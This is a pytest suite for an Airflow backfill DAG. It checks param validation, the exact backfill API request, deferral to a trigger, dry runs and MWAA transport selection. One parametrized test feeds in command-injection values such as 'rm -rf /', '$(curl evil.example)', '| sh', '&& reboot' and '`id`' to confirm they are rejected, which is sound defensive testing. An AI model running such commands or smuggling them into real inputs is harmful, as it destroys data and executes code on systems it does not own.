"""The timestream_backfill DAG under dag.test(): params refuse bad confs, good ones send one exact request."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.dags.backfill_support import (
    API_CONN_ID,
    EXPECTED_BODY,
    EXPORT_DAG_IDS,
    HOURS,
    PROBE_DAG_ID,
    SETTINGS_VARIABLE_ENV,
    VALID_CONF,
    RecordedRequest,
    RecordingApi,
    runtime_settings_json,
)
from timestream_pipeline import names
from timestream_pipeline.backfill_dag import build_backfill_dag
from timestream_pipeline.backfill_trigger import TRIGGER_CLASSPATH

pytestmark = pytest.mark.usefixtures("airflow_db")
DAG_FILE = Path(__file__).resolve().parents[2] / "dags" / "timestream_backfill.py"
# dag.test() runs the deferred trigger inline: a tiny interval keeps the waiting tests fast.
FAST_POLL = timedelta(milliseconds=10)
BACKFILL_PATH = "/api/v2/backfills/7"
WAIT_TASK_ID = "wait_for_backfill"


def trigger_dag(conf: dict[str, Any]) -> Any:
    """Trigger the DAG through dag.test (deferred waits polled every FAST_POLL); return the DAG run."""
    return build_backfill_dag(EXPORT_DAG_IDS, poll_interval=FAST_POLL).test(run_conf=conf)


def run_dag(conf: dict[str, Any]) -> dict[str, str]:
    """Trigger the DAG through dag.test and return each task's final state."""
    return {ti.task_id: str(ti.state) for ti in trigger_dag(conf).get_task_instances()}


def backfill_checks(api: RecordingApi) -> int:
    """How many times the backfill's state was read (GET /backfills/7)."""
    return sum(1 for r in api.api_requests if (r.method, r.path) == ("GET", BACKFILL_PATH))


def deferrals_to_our_trigger() -> list[dict[str, Any]]:
    """The kwargs of every trigger row a wait task has deferred to (rows outlive dag.test)."""
    from airflow.models.trigger import Trigger
    from airflow.utils.session import create_session
    from sqlalchemy import select

    with create_session() as session:
        rows = session.scalars(
            select(Trigger).where(Trigger.classpath == TRIGGER_CLASSPATH).order_by(Trigger.id)
        )
        return [row.kwargs for row in rows]


def still_running_for(api: RecordingApi, checks: int) -> None:
    """Make the API report backfill 7 running for its first `checks` reads, completed after that."""
    answer_as_recorded = api.answer

    def answer(request: RecordedRequest) -> tuple[int, Any]:
        if (request.method, request.path) != ("GET", BACKFILL_PATH):
            return answer_as_recorded(request)
        completed_at = None if backfill_checks(api) <= checks else "2026-11-02T00:00:00Z"
        return 200, {"id": 7, "completed_at": completed_at}

    api.answer = answer  # type: ignore[method-assign]


def test_the_dag_file_parses_with_a_param_per_field() -> None:
    """The real DAG file imports cleanly and offers one param per conf field, dag_id limited to exports."""
    from airflow.dag_processing.dagbag import DagBag

    # GIVEN the DAG file WHEN parsed
    bag = DagBag(dag_folder=str(DAG_FILE))
    # THEN no import error, the expected params and a schedule-less DAG
    assert bag.import_errors == {}
    dag = bag.dags[names.BACKFILL_DAG_ID]
    assert dag.schedule is None
    assert set(dag.params) == {
        "dag_id",
        "from_date",
        "to_date",
        "reprocess_behavior",
        "max_active_runs",
        "dry_run",
        "wait_for_completion",
    }
    assert all(
        i.startswith(names.EXPORT_DAG_ID_PREFIX) for i in dag.params.get_param("dag_id").schema["enum"]
    )


def test_the_wait_is_a_deferrable_operator_fed_by_both_upstream_tasks() -> None:
    """validate_conf -> create_backfill -> wait_for_backfill, the wait reading both tasks' XComs."""
    from timestream_pipeline.backfill_trigger import WaitForBackfillOperator

    # GIVEN the DAG WHEN built THEN the wait task is our deferring operator, downstream of both tasks
    dag = build_backfill_dag(EXPORT_DAG_IDS)
    wait = dag.get_task(WAIT_TASK_ID)
    assert isinstance(wait, WaitForBackfillOperator)
    assert wait.upstream_task_ids == {"validate_conf", "create_backfill"}
    assert dag.get_task("create_backfill").upstream_task_ids == {"validate_conf"}


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "dag_id": "timestream_export_backfill_probe; rm -rf /"},
        {**VALID_CONF, "from_date": "$(curl evil.example)"},
        {**VALID_CONF, "to_date": "2026-11-01T05:00:00Z\nairflow users create"},
        {**VALID_CONF, "reprocess_behavior": "failed | sh"},
        {**VALID_CONF, "max_active_runs": "4 && reboot"},
        {**VALID_CONF, "dry_run": "`id`"},
        {key: value for key, value in VALID_CONF.items() if key != "from_date"},
    ],
    ids=["dag_id", "from_date", "to_date", "reprocess", "max_runs", "dry_run", "missing"],
)
def test_airflow_params_refuse_a_bad_conf_before_the_run_exists(api: RecordingApi, conf: dict) -> None:
    """Airflow's param validation stops the trigger itself: no run, no task, no request."""
    from airflow.exceptions import ParamValidationError

    # GIVEN a conf breaking the JSON Schema WHEN the DAG is triggered THEN Airflow refuses it
    with pytest.raises(ParamValidationError):
        build_backfill_dag(EXPORT_DAG_IDS).test(run_conf=conf)
    assert api.requests == []


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "command": "dags backfill -s 2021-09-10 -e 2021-10-10 x"},
        {**VALID_CONF, "to_date": "2026-11-01T00:00:00Z"},
        {**VALID_CONF, "to_date": "2026-12-31T00:00:00Z"},
    ],
    ids=["extra_key", "equal_dates", "span_over_limit"],
)
def test_rules_beyond_the_schema_fail_the_first_task_without_a_request(api: RecordingApi, conf: dict) -> None:
    """Extra keys, from >= to and the span limit pass the params but stop in validate_conf."""
    # GIVEN a conf the schema allows but the rules do not WHEN the DAG runs
    states = run_dag(conf)
    # THEN validate_conf fails, nothing downstream runs, no request is sent
    assert states["validate_conf"] == "failed"
    assert states["create_backfill"] == "upstream_failed"
    assert api.requests == []


def test_a_valid_conf_sends_exactly_one_backfill_request(api: RecordingApi) -> None:
    """A valid conf: one POST /api/v2/backfills with the expected body, then the runs are read back."""
    # GIVEN six queued backfill runs on the API side
    api.runs = [{"dag_id": PROBE_DAG_ID, "logical_date": hour, "state": "queued"} for hour in HOURS]
    # WHEN the DAG runs with a valid conf
    states = run_dag(VALID_CONF)
    # THEN every task succeeded and the one create request is exact
    assert set(states.values()) == {"success"}
    create, runs = api.api_requests
    assert (create.method, create.path, create.body) == ("POST", "/api/v2/backfills", EXPECTED_BODY)
    assert (runs.method, runs.path) == ("GET", "/api/v2/dags/~/dagRuns")


def test_waiting_defers_to_the_trigger_until_the_backfill_completes(api: RecordingApi) -> None:
    """With wait_for_completion, the wait task defers; the trigger polls until done; XCom is the run count."""
    # GIVEN six successful backfill runs, and a backfill still running for the first two checks
    api.runs = [{"dag_id": PROBE_DAG_ID, "logical_date": hour, "state": "success"} for hour in HOURS]
    still_running_for(api, checks=2)
    earlier = deferrals_to_our_trigger()
    # WHEN the DAG runs and waits
    dag_run = trigger_dag({**VALID_CONF, "wait_for_completion": True})
    # THEN the task deferred once to our trigger, which checked three times; it succeeded with 6 runs
    wait = dag_run.get_task_instance(WAIT_TASK_ID)
    assert str(wait.state) == "success"
    new = deferrals_to_our_trigger()[len(earlier) :]
    assert [(kwargs["backfill_id"], kwargs["request_conf"]["dag_id"]) for kwargs in new] == [
        (7, PROBE_DAG_ID)
    ]
    assert backfill_checks(api) == 3
    assert wait.xcom_pull(task_ids=WAIT_TASK_ID) == len(HOURS)


def test_waiting_fails_the_dag_when_a_backfill_run_failed(
    api: RecordingApi, capfd: pytest.CaptureFixture[str]
) -> None:
    """With wait_for_completion, a completed backfill with a failed run fails the wait, naming the run."""
    # GIVEN a backfill the API reports completed, with one failed run
    api.backfill = {"id": 7, "completed_at": "2026-11-02T00:00:00Z"}
    api.runs = [{"dag_id": PROBE_DAG_ID, "logical_date": hour, "state": "success"} for hour in HOURS[:5]]
    api.runs.append({"dag_id": PROBE_DAG_ID, "logical_date": HOURS[5], "state": "failed"})
    # WHEN the DAG runs and waits
    states = run_dag({**VALID_CONF, "wait_for_completion": True})
    # THEN the backfill was created and the wait task failed on the failed run, named in its log
    assert states == {"validate_conf": "success", "create_backfill": "success", "wait_for_backfill": "failed"}
    assert backfill_checks(api) == 1
    task_log = "".join(capfd.readouterr())
    assert f"backfill 7 of {PROBE_DAG_ID} finished with 1 failed run(s) of 6: {HOURS[5]}" in task_log


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "wait_for_completion": False},
        {**VALID_CONF, "dry_run": True, "wait_for_completion": True},
    ],
    ids=["no_wait", "dry_run"],
)
def test_nothing_is_awaited_without_wait_for_completion_or_on_a_dry_run(
    api: RecordingApi, conf: dict
) -> None:
    """No wait asked for, or no backfill created (dry run): the wait task succeeds at once, no deferral."""
    # GIVEN a backfill that would never complete
    still_running_for(api, checks=10**6)
    earlier = deferrals_to_our_trigger()
    # WHEN the DAG runs
    states = run_dag(conf)
    # THEN every task succeeded, the wait task never deferred and the backfill state was never read
    assert set(states.values()) == {"success"}
    assert deferrals_to_our_trigger() == earlier
    assert backfill_checks(api) == 0


def test_a_dry_run_creates_nothing(api: RecordingApi) -> None:
    """A dry run posts only to /backfills/dry_run."""
    # GIVEN a dry-run conf WHEN the DAG runs THEN the only request is the dry run
    states = run_dag({**VALID_CONF, "dry_run": True})
    assert set(states.values()) == {"success"}
    assert [(r.method, r.path) for r in api.api_requests] == [("POST", "/api/v2/backfills/dry_run")]


def test_without_a_target_in_the_settings_the_run_fails_with_a_message(
    api: RecordingApi, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither an MWAA environment nor an API connection: create_backfill fails, nothing is sent."""
    # GIVEN settings naming no target
    monkeypatch.setenv(SETTINGS_VARIABLE_ENV, runtime_settings_json())
    # WHEN the DAG runs THEN create_backfill fails and no request leaves
    states = run_dag(VALID_CONF)
    assert states["create_backfill"] == "failed"
    assert api.requests == []


def test_an_mwaa_environment_in_the_settings_selects_invoke_rest_api(monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment comes from the settings: with mwaa_environment_name set, MWAA is the transport."""
    from timestream_pipeline.backfill_dag import transport_from_settings
    from timestream_pipeline.backfill_transport import MwaaTransport

    # GIVEN settings naming an MWAA environment (and an API connection, which MWAA takes precedence over)
    monkeypatch.setenv(
        SETTINGS_VARIABLE_ENV,
        runtime_settings_json(mwaa_environment_name="pipeline-airflow", airflow_api_conn_id=API_CONN_ID),
    )
    # WHEN the transport is chosen THEN it is MWAA, for that environment
    transport = transport_from_settings()
    assert isinstance(transport, MwaaTransport) and transport.environment_name == "pipeline-airflow"
